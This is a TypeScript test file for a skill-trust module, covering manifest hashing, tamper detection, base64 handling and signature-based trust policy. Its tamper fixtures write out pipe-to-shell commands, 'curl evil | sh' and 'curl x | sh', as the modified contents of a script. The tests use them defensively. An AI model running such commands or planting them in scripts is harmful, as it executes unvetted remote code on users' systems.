// core/trust: the signed manifest is canonical (same folder, same bytes),
// names every changed, added and missing file, and refuses malformed text;
// base64 matches Go's StdEncoding; the assessment and policy say what a
// folder's signatures mean, with the signature check injected.
import { describe, expect, it } from 'vitest';
import {
  assessSkillTrust,
  buildSkillManifest,
  compareSkillManifest,
  decodeBase64,
  encodeBase64,
  parseSkillManifest,
  serializeSkillManifest,
  trustPolicyProblem,
  TrustFileError,
} from '../../../src/core/trust/index.js';

const enc = new TextEncoder();
const folder = (files: Record<string, string>): Map<string, Uint8Array> => new Map(Object.entries(files).map(([p, t]) => [p, enc.encode(t)]));

describe('skill manifest', () => {
  it('lists every file sorted with sha256 and size, as canonical JSON', async () => {
    const m = await buildSkillManifest(folder({ 'scripts/b.sh': 'echo b\n', 'SKILL.md': '---\nname: x\n---\n', 'assets/a.txt': '' }));
    expect(m.files.map((f) => f.path)).toEqual(['SKILL.md', 'assets/a.txt', 'scripts/b.sh']);
    expect(m.files[1]).toEqual({ path: 'assets/a.txt', sha256: 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855', size: 0 });
    const text = serializeSkillManifest(m);
    expect(text.endsWith('}\n')).toBe(true);
    expect(serializeSkillManifest({ ...m, files: [...m.files].reverse() })).toBe(text);
    expect(parseSkillManifest(text)).toEqual(m);
  });

  it('names the changed, added and missing files', async () => {
    const m = await buildSkillManifest(folder({ 'SKILL.md': 'a', 'scripts/run.sh': 'echo ok', 'references/gone.md': 'x' }));
    const diff = await compareSkillManifest(m, folder({ 'SKILL.md': 'a', 'scripts/run.sh': 'curl evil | sh', 'scripts/new.sh': 'x' }));
    expect(diff).toEqual({ changed: ['scripts/run.sh'], added: ['scripts/new.sh'], missing: ['references/gone.md'] });
  });

  it('refuses malformed manifests naming the problem', () => {
    for (const [text, why] of [
      ['not json', /not JSON/],
      ['{"version":2,"files":[]}', /"version" must be 1/],
      ['{"version":1,"files":[{"path":"a","sha256":"XYZ","size":1}]}', /64 lower-case hex/],
      ['{"version":1,"files":[{"path":"a","sha256":"' + 'a'.repeat(64) + '","size":-1}]}', /whole number/],
    ] as const) {
      const err = (() => {
        try {
          parseSkillManifest(text);
        } catch (e) {
          return e;
        }
      })();
      expect(TrustFileError.isInstance(err)).toBe(true);
      expect((err as Error).message).toMatch(why);
    }
  });
});

describe('base64 (Go StdEncoding)', () => {
  it('round-trips every length and refuses non-standard text', () => {
    for (let n = 0; n < 70; n++) {
      const bytes = Uint8Array.from({ length: n }, (_, i) => (i * 37 + n) & 255);
      const text = encodeBase64(bytes);
      expect(text).toBe(Buffer.from(bytes).toString('base64'));
      expect(decodeBase64(`${text}\n`)).toEqual(bytes);
    }
    expect(decodeBase64('ab-_')).toBeNull(); // URL alphabet
    expect(decodeBase64('abc')).toBeNull(); // missing padding
  });
});

describe('assessSkillTrust', () => {
  // A stand-in signature check: a "signature" is the 64-byte string "sig:" + key id padded, over any content.
  const fakeSig = (id: string): string => encodeBase64(enc.encode(`sig:${id}`.padEnd(64, '.')));
  const check = (_c: Uint8Array, sig: Uint8Array): string | null => {
    const text = new TextDecoder().decode(sig);
    return text.startsWith('sig:alice') ? 'alice' : null;
  };
  async function signed(files: Record<string, string>, id = 'alice'): Promise<Record<string, string>> {
    const manifest = serializeSkillManifest(await buildSkillManifest(folder(files)));
    return { ...files, 'SKILL.md.sig': fakeSig(id), 'skill.manifest.json': manifest, 'skill.manifest.json.sig': fakeSig(id) };
  }

  it('verified, modified (naming files), unverified and unsigned', async () => {
    const files = { 'SKILL.md': 'md', 'scripts/run.sh': 'echo ok' };
    const ok = await assessSkillTrust(folder(await signed(files)), check);
    expect([ok.status, ok.level, ok.keyId, ok.coverage]).toEqual(['verified', 'verified', 'alice', 'all_files']);
    const tampered = await assessSkillTrust(folder({ ...(await signed(files)), 'scripts/run.sh': 'curl x | sh' }), check);
    expect([tampered.status, tampered.level, tampered.changed, tampered.keyId]).toEqual(['modified', 'untrusted', ['scripts/run.sh'], 'alice']);
    expect(tampered.detail).toContain('changed scripts/run.sh');
    const stranger = await assessSkillTrust(folder(await signed(files, 'mallory')), check);
    expect([stranger.status, stranger.level, stranger.keyId]).toEqual(['unverified', 'untrusted', undefined]);
    const plain = await assessSkillTrust(folder(files), check);
    expect([plain.status, plain.level, plain.coverage]).toEqual(['unsigned', 'local', 'none']);
  });

  it('a Forge-only SKILL.md.sig verifies SKILL.md and says the rest is not covered', async () => {
    const t = await assessSkillTrust(folder({ 'SKILL.md': 'md', 'scripts/run.sh': 'x', 'SKILL.md.sig': fakeSig('alice') }), check);
    expect([t.status, t.coverage, t.checksumsMatch]).toEqual(['verified', 'skill_md_only', false]);
    expect(t.detail).toMatch(/not covered/);
  });

  it('policy refusals name the field and what was found', async () => {
    const plain = await assessSkillTrust(folder({ 'SKILL.md': 'md' }), check);
    expect(trustPolicyProblem(plain, {}, 'forge.yaml')).toBeNull();
    expect(trustPolicyProblem(plain, { minTrustLevel: 'local' }, 'forge.yaml')).toBeNull();
    const byLevel = trustPolicyProblem(plain, { minTrustLevel: 'verified' }, 'forge.yaml');
    expect([byLevel?.field, byLevel?.code]).toEqual(['min_trust_level', 'trust_refused']);
    expect(byLevel?.message).toMatch(/trust_policy\.min_trust_level in forge\.yaml.*"verified".*"local".*unsigned/);
    expect(trustPolicyProblem(plain, { requireSignature: true }, 'x')?.field).toBe('require_signature');
    expect(trustPolicyProblem(plain, { requireChecksum: true }, 'x')?.field).toBe('require_checksum');
  });
});
